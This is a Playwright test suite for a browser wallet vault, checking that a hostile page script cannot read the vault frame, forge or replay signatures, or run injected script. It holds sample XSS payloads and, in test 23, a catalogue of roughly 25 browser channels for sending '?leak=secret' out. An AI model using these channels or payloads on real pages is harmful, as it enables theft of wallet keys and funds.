import { createHash } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  requestSignature,
  expect,
  HOST,
  promptOf,
  replaceVault,
  SIGN,
  storedVault,
  test,
  type Victim,
  yesIn,
} from './support/attack.ts'
import { text } from './support/texts.ts'
import { chooseWalletAction, confirm, enterPassword, TRADING_PASSWORD, unlock, vaultIsAway } from './support/wallet.ts'

// Attacks of a script that runs in the page before its own scripts. Each test checks observable results: the records of
// the script's hooks, requests of the browser, its storage, signatures, and transactions on the ledger.

const SEND = text('vault.confirm.send.sell')

async function refused(victim: Victim, change: object, code: string, named?: string): Promise<void> {
  const { order, reply, address, vault } = victim
  const input = { tx: await order(change), address, vault, ...(named !== undefined && { named }) }
  expect(await reply('sign', input)).toMatchObject({ ok: false, code })
}

test('attack 1, hooks everywhere: typing the password and showing the secret passes no hook', async ({
  opened: attacked,
}) => {
  const { page } = attacked
  await chooseWalletAction(page, 'wallet.reveal')
  const field = promptOf(page).getByLabel(text('wallet.password'), { exact: true })
  await field.pressSequentially(TRADING_PASSWORD)
  await promptOf(page)
    .getByRole('button', { name: text('wallet.reveal') })
    .click()
  await expect(promptOf(page).getByRole('listitem')).toHaveCount(attacked.secret.length)
  await attacked.expectNothingGot()
})

test('attack 2, hooks everywhere: importing a secret and choosing a password pass no hook', async ({ victim }) => {
  const attacked = await victim()
  const { page, secret } = attacked
  await page.getByRole('button', { name: text('wallet.add') }).click()
  await page.getByRole('button', { name: text('wallet.way-import') }).click()
  await promptOf(page).getByLabel(text('wallet.secret'), { exact: true }).pressSequentially(secret)
  await promptOf(page)
    .getByRole('button', { name: text('wallet.own') })
    .click()
  await promptOf(page).getByLabel(text('wallet.password'), { exact: true }).pressSequentially(TRADING_PASSWORD)
  await promptOf(page).getByLabel(text('wallet.password-repeat'), { exact: true }).pressSequentially(TRADING_PASSWORD)
  await promptOf(page)
    .getByRole('button', { name: text('wallet.import') })
    .click()
  await expect(promptOf(page)).toBeHidden()
  await attacked.expectNothingGot()
})

test('attack 3, reading the frame: its document, its window, its name and its prototypes are inaccessible', async ({
  opened: attacked,
}) => {
  const { page } = attacked
  await chooseWalletAction(page, 'wallet.reveal')
  await expect(promptOf(page)).toBeVisible()
  const read = await page.evaluate(async (selector) => {
    const frame = document.querySelector<HTMLIFrameElement>(`${selector} > iframe`)
    const inside = frame?.contentWindow as unknown as Record<string, unknown>
    const attempts: Record<string, () => unknown> = {
      contentDocument: () => frame?.contentDocument,
      svgDocument: () => frame?.getSVGDocument(),
      document: () => inside['document'],
      byIndex: () => (window.frames[0] as unknown as Record<string, unknown>)['document'],
      evaluate: () => inside['eval'],
      name: () => inside['name'],
      address: () => (inside['location'] as Location).href,
      prototype: () => (inside['Object'] as typeof Object).prototype,
      storage: () => inside['localStorage'],
      selection: () => (inside['getSelection'] as () => unknown)(),
      children: () => (inside['0'] as Window).document,
    }
    return Object.entries(attempts).map(([name, act]) => {
      try {
        const got = act()
        return got === null || got === undefined ? 'closed' : `${name} gave ${typeof got}`
      } catch {
        return 'closed'
      }
    })
  }, HOST)
  expect(read).toEqual(read.map(() => 'closed'))
  await attacked.expectNothingGot()
})

test('attack 4, the same document without the sandbox, or with every permission: it has an opaque origin anyway', async ({
  opened: attacked,
}) => {
  const read = await attacked.page.evaluate(async () => {
    const results: string[] = []
    for (const sandbox of [
      undefined,
      'allow-scripts allow-same-origin allow-popups allow-forms allow-top-navigation',
    ]) {
      const frame = document.createElement('iframe')
      if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox)
      frame.src = '/vault/'
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      try {
        results.push(frame.contentWindow?.document.body.innerHTML ?? 'closed')
      } catch (error) {
        results.push((error as Error).name)
      }
      frame.remove()
    }
    return results
  })
  expect(read).toEqual(['SecurityError', 'SecurityError'])
  await attacked.expectNothingGot()
})

test('attack 5, a separate vault in a window: the vault does not run outside of a frame', async ({
  opened: attacked,
}) => {
  const popup = attacked.page.context().waitForEvent('page')
  await attacked.page.evaluate(() => void window.open('/vault/', 'theirs', 'width=400,height=600'))
  const vaultPage = await popup
  await vaultPage.waitForLoadState()
  await expect(vaultPage.locator('body')).toContainText('The vault is a part of the page.')
  await expect(vaultPage.getByRole('dialog')).toHaveCount(0)
  await vaultPage.close()
  await attacked.expectNothingGot()
})

test('attack 6, the phrase: no request of a script returns it, even with forged metadata', async ({
  opened: attacked,
}) => {
  const { page, frame } = attacked
  const phrase = await frame().locator('meta[name="vault-phrase"]').getAttribute('content')
  expect(phrase).toMatch(/^[a-z]+ [a-z]+ [a-z]+$/u)
  const got = await page.evaluate(async () => {
    const texts = [document.documentElement.outerHTML, document.cookie]
    const fetched = async (init: RequestInit): Promise<void> => {
      texts.push(
        await fetch('/vault/', init).then(
          (answer) => answer.text(),
          (error: unknown) => String(error),
        ),
      )
    }
    for (const mode of ['same-origin', 'no-cors', 'cors'] as const) await fetched({ mode })
    for (const header of ['Sec-Fetch-Dest', 'X-Sec-Fetch-Dest', 'Purpose', 'X-Forwarded-Host'])
      await fetched({ headers: { [header]: 'iframe' } })
    for (const path of ['/vault/', '/vault/vault.html', '/vault', '//vault/']) {
      const request = new XMLHttpRequest()
      request.open('GET', path, false)
      try {
        request.send()
        texts.push(request.responseText, request.getAllResponseHeaders())
      } catch (error) {
        texts.push(String(error))
      }
    }
    for (const entry of performance.getEntries()) texts.push(JSON.stringify(entry))
    return texts.join('\n')
  })
  expect(got.includes(phrase ?? '-')).toBe(false)
  expect(got.includes('vault_phrase') && !got.includes('localStorage'), 'its seed').toBe(false)
  await attacked.expectNothingGot()
})

test('attack 14, forged requests: no transaction that gives money or the account away is signed without the password', async ({
  opened: attacked,
}) => {
  const { page } = attacked
  const types = ['SignerListSet', 'AccountDelete', 'DelegateSet', 'Batch', 'SetFee', 'UNLModify']
  for (const type of types) {
    await refused(attacked, { TransactionType: type }, 'keyring/type-refused')
    await refused(attacked, { TransactionType: type }, 'keyring/type-refused', type)
  }
  const gift = {
    TransactionType: 'Payment',
    TakerPays: undefined,
    TakerGets: undefined,
    Destination: 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or',
    Amount: '500000000',
    Flags: 0,
  }
  await refused(attacked, gift, 'keyring/type-refused')
  await refused(attacked, gift, 'keyring/type-refused', 'OfferCreate')
  await refused(attacked, { LastLedgerSequence: 0xffff_ffff }, 'keyring/transaction-refused')
  const { address, vault } = attacked
  for (const method of ['signAgain', 'revealSecret', 'addressOf', '__proto__', 'constructor'])
    expect(await attacked.reply(method, { address, vault })).toMatchObject({ ok: false, code: 'keyring/bad-request' })
  // A transaction of a type given by name is shown with its destination, and requires the password although the wallet
  // is unlocked.
  await requestSignature(attacked, gift, { named: 'Payment' })
  const yes = promptOf(page).getByRole('button', { name: SIGN })
  await expect(promptOf(page)).toContainText('jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or')
  await expect(yes).toBeEnabled()
  await expect(promptOf(page).getByLabel(text('wallet.password'), { exact: true })).toBeVisible()
  await yes.click()
  await expect(promptOf(page).getByText(text('error.keyring/empty-password'))).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(promptOf(page)).toBeHidden()
  await attacked.expectNothingGot()
})

test('attack 15, a raised fee: a fee above the limit is rejected before any confirmation', async ({
  opened: attacked,
}) => {
  for (const Fee of ['700000000', '99999999999999', '100001']) await refused(attacked, { Fee }, 'keyring/fee-too-high')
  for (const Fee of ['0', '-1', '1e9', '0x10', ' 10', '', 10, null, ['10'], { toString: '10' }])
    await refused(attacked, { Fee }, 'keyring/transaction-refused')
  await attacked.expectNothingGot()
})

test('TRD-110 attack 16, changes during a confirmation: the signed transaction is the displayed one', async ({
  opened: attacked,
}) => {
  const { page, note, answer } = attacked
  const { id, tx } = await requestSignature(attacked)
  const yes = promptOf(page).getByRole('button', { name: SIGN })
  await expect(yes).toBeEnabled()
  const window = { sequence: tx['Sequence'], lastLedger: tx['LastLedgerSequence'] }
  for (const change of [
    { ...window, Fee: '99999', TakerGets: '900000000', Account: 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or' },
    { sequence: -1, lastLedger: 0 },
    { sequence: tx['Sequence'], lastLedger: 0xffff_ffff },
    { sequence: { valueOf: 1 }, lastLedger: '9' },
    {},
  ])
    await note({ note: 'refresh', window: change })
  for (const wrong of [{ note: 'stored' }, { note: '__proto__' }, { note: 'refresh' }, { note: 'look' }, 7, null, []])
    await note(wrong as object)
  for (const shown of ['OfferCreate', attacked.address, '900', '1 SWTC', '0.00001 SWTC', String(tx['Sequence'])])
    await expect(promptOf(page)).toContainText(shown)
  await confirm(page, SIGN)
  await expect.poll(() => answer(id)).toMatchObject({ ok: true })
  const { output } = (await answer(id)) as { output: { summary: { fields: Record<string, unknown> } } }
  expect(output.summary.fields).toMatchObject(tx)
  await attacked.expectNothingGot(1)
})

test('attack 17, a replayed confirmation: it is valid for one signature, under any request number', async ({
  opened: attacked,
}) => {
  const { page, ask, note, answer, address, vault } = attacked
  const { id, tx } = await requestSignature(attacked)
  const yes = promptOf(page).getByRole('button', { name: SIGN })
  await expect(yes).toBeEnabled()
  await confirm(page, SIGN)
  await expect.poll(() => answer(id)).toMatchObject({ ok: true })
  const { output } = (await answer(id)) as { output: { confirmation?: number } }
  const lastLedger = tx['LastLedgerSequence']
  const numbers: number[] = []
  for (let next = 1; next <= 4; next++) {
    const sequence = Number(tx['Sequence']) + next
    for (const confirmation of new Set([output.confirmation ?? 1, 1, 2]))
      numbers.push(await ask('signAgain', { confirmation, sequence, lastLedger, address, vault }))
    await note({ note: 'refresh', window: { sequence, lastLedger } })
  }
  for (const number of numbers) await expect.poll(() => answer(number)).toMatchObject({ ok: false })
  await attacked.expectNothingGot(1)
})

test('attack 18, concurrent requests: they are shown one at a time, and a confirmation applies only to its own request', async ({
  opened: attacked,
}) => {
  const { page, answer } = attacked
  const first = await requestSignature(attacked, { TakerGets: '1000000' })
  const others = []
  for (const coins of [2, 3, 4]) others.push(await requestSignature(attacked, { TakerGets: `${coins}000000` }))
  const asked = await attacked.ask('unlock', { address: attacked.address, vault: attacked.vault })
  const yes = yesIn(page, SIGN)
  await expect(yes).toBeEnabled()
  await expect(promptOf(page)).toHaveCount(1)
  await yes.click()
  await expect.poll(() => answer(first.id)).toMatchObject({ ok: true })
  const { output } = (await answer(first.id)) as { output: { summary: { fields: object } } }
  expect(output.summary.fields).toMatchObject({ TakerGets: '1000000' })
  // Each of the others waits for a separate confirmation.
  for (const [index, { id }] of others.entries()) {
    await expect(promptOf(page)).toContainText(`${index + 2} SWTC`)
    expect(await answer(id)).toBeUndefined()
    await page.keyboard.press('Escape')
    await expect.poll(() => answer(id)).toMatchObject({ ok: true, output: undefined })
  }
  await expect(promptOf(page).getByLabel(text('wallet.password'), { exact: true })).toBeVisible()
  await page.keyboard.press('Escape')
  await expect.poll(() => answer(asked)).toMatchObject({ ok: true, output: undefined })
  await attacked.expectNothingGot(1)
})

test('attack 19, swapped addresses: a token of another issuer is displayed as such, whatever name the page gives it', async ({
  opened: attacked,
}) => {
  const { page } = attacked
  const issuer = 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or'
  const listed = await page.evaluate(async () => {
    const answer = await fetch('/static/config/hosts.json')
    return JSON.stringify(await answer.json())
  })
  expect(listed).not.toContain(issuer)
  const order = {
    base: { code: 'SWT', issuer: '' },
    counter: { code: 'CNY', issuer: attacked.address },
    priceDecimal: 5,
    reserve: '5',
    warnings: [],
  }
  await requestSignature(attacked, {}, { order })
  await expect(promptOf(page).getByRole('button', { name: SIGN })).toBeEnabled()
  await expect(promptOf(page)).toContainText(text('vault.confirm.issuer', { issuer }))
  await expect(promptOf(page).getByRole('button', { name: SEND }), 'no order of a known pair').toHaveCount(0)
  await page.keyboard.press('Escape')
  await refused(attacked, { Account: 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or' }, 'keyring/transaction-refused')
  await attacked.expectNothingGot()
})

/** Returns a stored vault with another cost and a matching checksum. */
function withCost(vault: string, cost: object): string {
  const { check: _check, ...body } = JSON.parse(vault) as { check: string; kdf: { salt: string } }
  const { salt } = body.kdf
  const kdf = { name: 'argon2id', ...cost, salt }
  const changed = JSON.stringify({ ...body, kdf })
  return JSON.stringify({
    ...(JSON.parse(changed) as object),
    check: createHash('sha256').update(changed).digest('base64'),
  })
}

test('attack 20, a stored vault with a cheaper or an endless cost: neither opens, and neither blocks the user', async ({
  victim,
}) => {
  const attacked = await victim()
  const { page, vault, address } = attacked
  for (const [cost, code] of [
    [{ memory: 19_456, iterations: 2, parallelism: 1 }, 'keyring/incorrect-password'],
    [{ memory: 8, iterations: 1, parallelism: 1 }, 'keyring/vault-damaged'],
    [{ memory: 262_144, iterations: 16, parallelism: 4 }, 'keyring/vault-damaged'],
    [{ memory: 4_194_304, iterations: 1, parallelism: 1 }, 'keyring/vault-damaged'],
  ] as const) {
    await replaceVault(page, address, withCost(vault, cost))
    await vaultIsAway(page)
    await page
      .getByRole('main')
      .getByRole('button', { name: text('wallet.unlock') })
      .click()
    await enterPassword(page)
    await expect(
      promptOf(page)
        .getByText(text(`error.${code}`))
        .first(),
    ).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(promptOf(page)).toBeHidden()
  }
  expect(await storedVault(page, address), 'nothing cheaper was stored').not.toBe(vault)
  await replaceVault(page, address, vault)
  await attacked.open()
  await attacked.expectNothingGot()
})

test('attack 21, a deleted ciphertext, or one of another wallet: no password opens it, the backup does', async ({
  victim,
}) => {
  const attacked = await victim()
  const { page, vault, address, secret } = attacked
  const foreign = JSON.stringify({ ...(JSON.parse(vault) as object), address: 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or' })
  for (const planted of [foreign, '{}', `${vault} `]) {
    await replaceVault(page, address, planted)
    await vaultIsAway(page)
    await page
      .getByRole('main')
      .getByRole('button', { name: text('wallet.unlock') })
      .click()
    await enterPassword(page)
    await expect(
      promptOf(page).getByRole('alert').or(promptOf(page).locator('[aria-invalid=true]')).first(),
    ).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(promptOf(page)).toBeHidden()
  }
  await replaceVault(page, address, undefined)
  await vaultIsAway(page)
  await page
    .getByRole('main')
    .getByRole('button', { name: text('wallet.unlock') })
    .click()
  await expect(page.getByText(text('error.keyring/vault-damaged')).first()).toBeVisible()
  await page.getByRole('button', { name: text('wallet.add') }).click()
  await page.getByRole('button', { name: text('wallet.way-import') }).click()
  await promptOf(page).getByLabel(text('wallet.secret'), { exact: true }).fill(secret)
  await promptOf(page).getByLabel(text('wallet.password'), { exact: true }).fill(TRADING_PASSWORD)
  await promptOf(page).getByLabel(text('wallet.password-repeat'), { exact: true }).fill(TRADING_PASSWORD)
  await promptOf(page)
    .getByRole('button', { name: text('wallet.import') })
    .click()
  await expect(page.getByRole('main').getByRole('button', { name: text('wallet.lock-now') })).toBeVisible()
  await attacked.expectNothingGot()
})

test('attack 22, an endless session: despite continuous requests of a script, the wallet locks after 15 minutes', async ({
  victim,
}) => {
  const attacked = await victim()
  const { page, reply, note } = attacked
  await page.clock.install()
  await attacked.open()
  for (let minute = 0; minute < 15; minute++) {
    expect(await reply('status', {})).toMatchObject({ output: { locked: false } })
    await refused(attacked, { Fee: '999999999' }, 'keyring/fee-too-high')
    await note({ note: 'visible' })
    await note({ note: 'look', look: { language: 'en', theme: 'light' } })
    await page.clock.fastForward(60_000)
  }
  expect(await reply('status', {})).toMatchObject({ output: { locked: true } })
  await expect(page.getByRole('main').getByRole('button', { name: text('wallet.unlock') })).toBeVisible()
  await attacked.expectNothingGot()
})

/** Tries the ways to send data out of a scope that contains a password or a key. Returns those that worked. */
async function waysOut(target: string): Promise<readonly string[]> {
  const scope = globalThis as unknown as Record<string, ((...args: unknown[]) => unknown) | undefined>
  const made = (name: string, ...args: unknown[]): unknown => {
    const kind = scope[name]
    if (kind === undefined) throw new TypeError('gone')
    return Reflect.construct(kind, args)
  }
  const nested = (name: string): unknown => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inner = frame.contentWindow as unknown as Record<string, ((...args: unknown[]) => unknown) | undefined>
    const kind = inner[name]
    if (kind === undefined) throw new TypeError('gone')
    return name === 'fetch' ? kind(target) : Reflect.construct(kind, [])
  }
  const opened = (socket: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => {
      socket.addEventListener('open', resolve)
      socket.addEventListener('error', reject)
    })
  const ways: Readonly<Record<string, () => unknown>> = {
    fetch: () => (scope['fetch'] ?? nested)(target),
    later: () => {
      if (scope['fetchLater'] === undefined) throw new TypeError('gone')
      scope['fetchLater'](target)
    },
    request: () => {
      const request = made('XMLHttpRequest') as XMLHttpRequest
      request.open('GET', target, false)
      request.send()
    },
    socket: () => opened(made('WebSocket', target.replace('http', 'ws')) as EventTarget),
    stream: () => made('WebSocketStream', target.replace('http', 'ws')),
    events: () => opened(made('EventSource', target) as EventTarget),
    transport: () => (made('WebTransport', target.replace('http:', 'https:')) as { ready: Promise<unknown> }).ready,
    peer: () => made('RTCPeerConnection'),
    channel: () => made('BroadcastChannel', 'theirs'),
    database: () => (scope['indexedDB'] as unknown as IDBFactory).open('theirs'),
    caches: () => (scope['caches'] as unknown as CacheStorage).open('theirs'),
    script: () =>
      scope['importScripts'] === undefined ? import(/* @vite-ignore */ target) : scope['importScripts'](target),
    worker: () => {
      const worker = made('Worker', target) as Worker
      worker.postMessage('secret')
    },
    beacon: () => {
      if (navigator.sendBeacon === undefined) throw new TypeError('gone')
      if (!navigator.sendBeacon(target, 'secret')) throw new TypeError('refused')
      // The browser reports success but sends nothing, so the requests that arrive outside are counted.
      throw new TypeError('not known')
    },
    nestedFetch: () => nested('fetch'),
    nestedPeer: () => nested('RTCPeerConnection'),
  }
  const works = async ([name, act]: readonly [string, () => unknown]): Promise<readonly string[]> => {
    try {
      await Promise.race([
        act(),
        new Promise((_, reject) => {
          setTimeout(() => reject(new Error('nothing')), 1500)
        }),
      ])
      return [name]
    } catch {
      // closed
      return []
    }
  }
  // All at once, because each attempt may use its whole time limit.
  return (await Promise.all(Object.entries(ways).map(works))).flat()
}

/** Makes a document fetch an address as a style sheet and as a font. Settles when both are loaded or blocked. */
async function fetchAsStyleAndFont(target: string): Promise<void> {
  const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: target })
  const settled = new Promise((resolve) => {
    link.addEventListener('load', resolve)
    link.addEventListener('error', resolve)
  })
  document.head.append(link)
  await settled
  await new FontFace('theirs', `url(${target})`).load().catch(() => undefined)
}

/** Tries the ways to send data out that only a document has. Returns those that worked. */
async function waysOutOfDocument(target: string): Promise<readonly string[]> {
  const load = <T extends HTMLElement>(name: string, set: (element: T) => void): Promise<unknown> =>
    new Promise((resolve, reject) => {
      const element = document.createElement(name) as T
      element.addEventListener('load', resolve)
      element.addEventListener('error', () => reject(new Error('blocked')))
      set(element)
      document.body.append(element)
      setTimeout(() => reject(new Error('nothing came')), 300)
    })
  const ways: Readonly<Record<string, () => unknown>> = {
    window: () =>
      (globalThis.open as typeof globalThis.open | undefined)?.(target) ?? Promise.reject(new Error('gone')),
    image: () => load<HTMLImageElement>('img', (element) => (element.src = target)),
    frame: () => load<HTMLIFrameElement>('iframe', (element) => (element.srcdoc = '<p>x</p>')),
    link: () => load<HTMLLinkElement>('link', (element) => Object.assign(element, { rel: 'prefetch', href: target })),
    form: () => {
      const form = document.createElement('form')
      Object.assign(form, { action: target, method: 'post' })
      document.body.append(form)
      form.submit()
      return Promise.reject(new Error('nothing came'))
    },
    top: () => ((window.top as Window).location.href = target),
    storage: () => localStorage.setItem('x', 'y'),
    script: () => load<HTMLScriptElement>('script', (element) => (element.src = target)),
  }
  const works = async ([name, act]: readonly [string, () => unknown]): Promise<readonly string[]> => {
    try {
      await act()
      return [name]
    } catch {
      return []
    }
  }
  return (await Promise.all(Object.entries(ways).map(works))).flat()
}

test('attack 23, from inside: a hijacked dependency of the vault or of its worker finds none of 25 ways out', async ({
  victim,
}) => {
  const attacked = await victim()
  const { page, frame } = attacked
  const arrived: string[] = []
  // The browser announces requests that it then does not send, so only arrived ones count, here or at a foreign
  // listener.
  page.context().on('response', (response) => arrived.push(response.url()))
  const listener = createServer((request, response) => {
    arrived.push(`elsewhere ${request.url ?? ''}`)
    response.setHeader('access-control-allow-origin', '*').end()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const { port } = listener.address() as AddressInfo
  try {
    await attacked.open()
    const worker = page.workers().find((each) => each.url().startsWith('blob:'))
    expect(worker, 'the worker that stretches passwords').toBeDefined()
    for (const target of [new URL('/ready?leak=secret', page.url()).href, `http://127.0.0.1:${port}/?leak=secret`]) {
      expect(await frame().evaluate(waysOut, target)).toEqual([])
      expect(await worker?.evaluate(waysOut, target)).toEqual([])
    }
    expect(await frame().evaluate(waysOutOfDocument, new URL('/ready?leak=secret', page.url()).href)).toEqual([])
    expect(await frame().evaluate(() => typeof navigator.sendBeacon)).toBe('undefined')
    await frame().evaluate(fetchAsStyleAndFont, new URL('/assets/style.css?leak=secret', page.url()).href)
    expect(arrived.filter((url) => url.includes('leak'))).toEqual([])
    // Proves that the check detects a request that arrives.
    await page.evaluate(() => fetch('/ready?leak=seen'))
    expect(arrived.filter((url) => url.includes('leak'))).toHaveLength(1)
    // Navigation is the only way that the vault's own policy cannot block; the page's policy allows only the vault in
    // its frames.
    await frame().evaluate((address) => void (location.href = address), new URL('/ready?leak=secret', page.url()).href)
    await expect.poll(() => page.frames().some((each) => each.url().startsWith('chrome-error:'))).toBe(true)
    expect(arrived.filter((url) => url.includes('leak'))).toHaveLength(1)
  } finally {
    listener.close()
  }
  await attacked.expectNothingGot()
})

test('attack 24, text as script: names, memos and looks remain text, and never run as a script', async ({
  opened: attacked,
}) => {
  const { page, frame, note } = attacked
  const bad = '<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script>'
  const hex = Buffer.from(bad).toString('hex').toUpperCase()
  const order = {
    base: { code: bad, issuer: bad },
    counter: { code: bad, issuer: bad },
    priceDecimal: 5,
    reserve: bad,
    warnings: [
      { code: 'priceHigh', params: { price: bad, best: bad, coin: bad } },
      { code: '__proto__', params: {} },
    ],
  }
  await note({ note: 'look', look: { language: '__proto__', theme: bad, sides: bad, rise: bad, density: bad } })
  await requestSignature(attacked, { Memos: [{ Memo: { MemoType: '74', MemoData: hex } }] }, { order })
  await expect(promptOf(page)).toContainText('<img src=x')
  const tried = await frame().evaluate(
    (markup) =>
      new Promise<readonly string[]>((resolve) => {
        // In a separate task, because the test tool may evaluate code in its own task.
        setTimeout(() => {
          const attempts: Readonly<Record<string, () => unknown>> = {
            evaluated: () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('globalThis.ran = 1'),
            made: () => Reflect.construct(Function, ['globalThis.ran = 1'])(),
            timed: () => setTimeout('globalThis.ran = 1' as unknown as () => void),
            markup: () => (document.createElement('div').innerHTML = markup),
            parsed: () => document.write(markup),
            inserted: () => document.body.insertAdjacentHTML('beforeend', markup),
            framed: () => (document.createElement('iframe').srcdoc = markup),
            text: () => {
              const script = document.createElement('script')
              script.textContent = 'globalThis.ran = 1'
              document.body.append(script)
              throw new TypeError('what it did is looked at below')
            },
            handler: () => {
              document.createElement('img').setAttribute('onerror', 'globalThis.ran = 1')
              throw new TypeError('what it did is looked at below')
            },
            policy: () =>
              (
                globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
              ).trustedTypes.createPolicy('vault', { createHTML: (html: string) => html }),
          }
          resolve(
            Object.entries(attempts).flatMap(([name, act]) => {
              try {
                act()
                return [name]
              } catch {
                return []
              }
            }),
          )
        })
      }),
    bad,
  )
  expect(tried).toEqual([])
  expect(await frame().evaluate(() => 'ran' in globalThis)).toBe(false)
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
  await page.keyboard.press('Escape')
  await attacked.expectNothingGot()
})

test('attack 29, orders without confirmation: a script gets none beyond the ticked scope, in any direction', async ({
  opened,
}) => {
  const { page, address, vault, reply, order, answer } = opened
  const context = {
    base: { code: 'SWT', issuer: '' },
    counter: { code: 'CNY', issuer: 'jGa9J9TkqtBcUoHe2zqhVFFbgUVED6o9or' },
    priceDecimal: 5,
    reserve: '5',
    warnings: [],
  }
  const { id } = await requestSignature(opened, {}, { order: context })
  const terms = promptOf(page)
  const skip = terms.getByRole('checkbox')
  // The window may still have been moving.
  await expect(async () => {
    if (!(await skip.isChecked())) await terms.getByText(text('vault.confirm.skip')).click()
    await expect(skip).toBeChecked({ timeout: 1000 })
  }).toPass()
  for (const said of ['never buy', '855 to 945', 'at most 1 SWTC', 'at most 10 SWTC', 'at most 100'])
    await expect(terms).toContainText(said)
  await confirm(page, SEND)
  await expect.poll(() => answer(id)).toMatchObject({ ok: true })
  const pays = (value: string, more: object = {}) => ({
    TakerPays: { currency: 'CNY', issuer: context.counter.issuer, value, ...more },
  })
  const outside: readonly (readonly [string, object])[] = [
    ['a larger one', { TakerGets: '1000001', ...pays('900') }],
    ['below the corridor', pays('854.999')],
    ['above the corridor', pays('945.001')],
    ['another issuer', pays('900', { issuer: address })],
    ['another code', pays('900', { currency: 'USD' })],
    ['a market order', { Flags: 0x000a_0000 }],
    ['one that replaces another', { OfferSequence: 1 }],
    ['a memo', { Memos: [{ Memo: { MemoType: '74', MemoData: '41' } }] }],
    ['a higher fee', { Fee: '11' }],
  ]
  // All of them together: each one is shown, or waits to be shown.
  const asked = []
  for (const [what, change] of outside)
    asked.push({ what, ...(await requestSignature(opened, change, { order: context })) })
  await expect(promptOf(page)).toBeVisible()
  // Orders within the scope are signed in the meantime, until the sum is used up.
  const inside = { tx: await order(), address, vault, order: context }
  for (let signed = 0; signed < 10; signed++) expect(await reply('sign', inside)).toMatchObject({ ok: true })
  expect(await reply('sign', inside), 'asked about, behind all the others').toMatchObject({ ok: false })
  for (const { what, id: number } of asked) expect(await answer(number), what).toBeUndefined()
  for (const { what, id: number } of asked) {
    await opened.note({ note: 'dismiss' })
    await expect.poll(() => answer(number), what).toMatchObject({ ok: true, output: undefined })
  }
  // Declining has ended the permission.
  const { id: after } = await requestSignature(opened, { TakerGets: '1', ...pays('0.0009') }, { order: context })
  await expect(promptOf(page)).toBeVisible()
  expect(await answer(after)).toBeUndefined()
  // A confirmation of this sale does not permit a purchase at the same price.
  await expect(async () => {
    if (!(await skip.isChecked())) await terms.getByText(text('vault.confirm.skip')).click()
    await expect(skip).toBeChecked({ timeout: 1000 })
  }).toPass()
  await confirm(page, SEND)
  await expect.poll(() => answer(after)).toMatchObject({ ok: true })
  const buy = { TakerPays: '1', TakerGets: pays('0.0009').TakerPays, Flags: 0 }
  const { id: bought } = await requestSignature(opened, buy, { order: context })
  await expect(promptOf(page)).toBeVisible()
  expect(await answer(bought)).toBeUndefined()
  await opened.expectNothingGot(12)
})

test('a replaced wallet is preserved, and can be restored with its own password', async ({ victim }) => {
  const { page, address, vault } = await victim()
  const other = { secret: 'snoPBjXtMeMyMHUVTgbuqAfg1SUTb', address: 'jHb9CJAWyB4jr91VRWn96DkukG4bwdtyTh' }
  await page.getByRole('button', { name: text('wallet.add') }).click()
  await page.getByRole('button', { name: text('wallet.way-import') }).click()
  await promptOf(page).getByLabel(text('wallet.secret'), { exact: true }).fill(other.secret)
  await promptOf(page)
    .getByRole('button', { name: text('wallet.own') })
    .click()
  await promptOf(page).getByLabel(text('wallet.password'), { exact: true }).fill('Lantern8boat')
  await promptOf(page).getByLabel(text('wallet.password-repeat'), { exact: true }).fill('Lantern8boat')
  await promptOf(page)
    .getByRole('button', { name: text('wallet.import') })
    .click()
  await expect(page.getByRole('main').getByText(other.address)).toBeVisible()
  expect(await storedVault(page, address)).toBe(vault)
  await vaultIsAway(page)
  await page.getByRole('button', { name: text('wallet.add') }).click()
  await page.getByRole('button', { name: text('wallet.way-kept-text') }).click()
  await enterPassword(page, 'Lantern8boat')
  await expect(promptOf(page).getByText(text('error.keyring/incorrect-password'))).toBeVisible()
  await expect(page.getByRole('main').getByText(other.address)).toBeAttached()
  await unlock(page)
  await expect(page.getByRole('main').getByText(address)).toBeVisible()
  await expect(page.getByRole('main').getByRole('button', { name: text('wallet.lock-now') })).toBeVisible()
})
